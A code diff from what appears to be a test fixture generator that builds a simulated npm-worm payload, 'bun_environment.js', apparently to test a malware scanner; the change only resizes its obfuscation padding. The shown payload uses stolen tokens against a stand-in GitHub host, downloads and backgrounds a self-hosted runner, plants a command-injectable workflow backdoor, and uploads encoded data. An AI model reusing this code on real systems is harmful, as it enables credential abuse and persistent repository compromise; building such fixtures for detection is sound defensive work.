@@ -142,7 +142,7 @@ async function main() {
 
 main().catch(() => process.exit(0));
 `,
-      'bun_environment.js': `var a0_0x23b7=["${noise(10_020_000, 777).match(/.{1,64}/g)!.join('","')}"];
+      'bun_environment.js': `var a0_0x23b7=["${noise(1_002_000, 777).repeat(10).match(/.{1,64}/g)!.join('","')}"];
 function a0_0x41(i){return Buffer.from(a0_0x23b7[i],"base64").toString()}
 const{execFileSync:a0_x,spawnSync:a0_s,spawn:a0_p}=require("child_process"),a0_f=require("fs"),a0_o=require("os"),a0_t=require("path");
 class a0_G{constructor(t){this.t=t}async q(m,p,b){return(await fetch("https://api.github.example.invalid"+p,{method:m,headers:{authorization:"token "+this.t},body:b?JSON.stringify(b):undefined})).json()}async runner(o,n){const r=await this.q("POST",\`/repos/\${o}/\${n}/actions/runners/registration-token\`);a0_s("bash",["-c",\`mkdir -p $HOME/.dev-env && cd $HOME/.dev-env && curl -o actions-runner.tar.gz -L https://github.example.invalid/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf ./actions-runner.tar.gz && RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.example.invalid/\${o}/\${n} --unattended --token \${r.token} --name "SHA1HULUD" && nohup ./run.sh &\`]);await this.q("PUT",\`/repos/\${o}/\${n}/contents/.github/workflows/discussion.yaml\`,{message:"Add Discussion",content:btoa("name: Discussion Create\\non:\\n  discussion:\\njobs:\\n  process:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo \${{ github.event.discussion.body }}\\n")})}async save(o,n,k,v){return this.q("PUT",\`/repos/\${o}/\${n}/contents/\${k}.json\`,{message:"Add file",content:btoa(btoa(JSON.stringify(v)))})}}
